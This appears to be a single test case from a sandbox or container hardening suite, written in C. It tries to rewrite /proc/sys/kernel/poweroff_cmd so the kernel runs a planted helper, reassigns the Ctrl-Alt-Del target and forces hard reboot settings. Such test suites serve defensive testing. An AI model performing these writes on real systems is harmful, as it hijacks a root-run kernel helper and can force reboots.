/* Exchanges the program that the kernel runs to power off, and the process that it tells of Ctrl-Alt-Del (sysctl/kernel.rst). */
#include "common/attack.h"

static void attempt(void) {
    put("/proc/sys/kernel/poweroff_cmd", own("helper"));
    put("/proc/sys/kernel/cad_pid", "1");
    put("/proc/sys/kernel/ctrl-alt-del", "1");
    put("/sys/kernel/reboot/mode", "hard");
    put("/sys/kernel/reboot/force", "1");
}
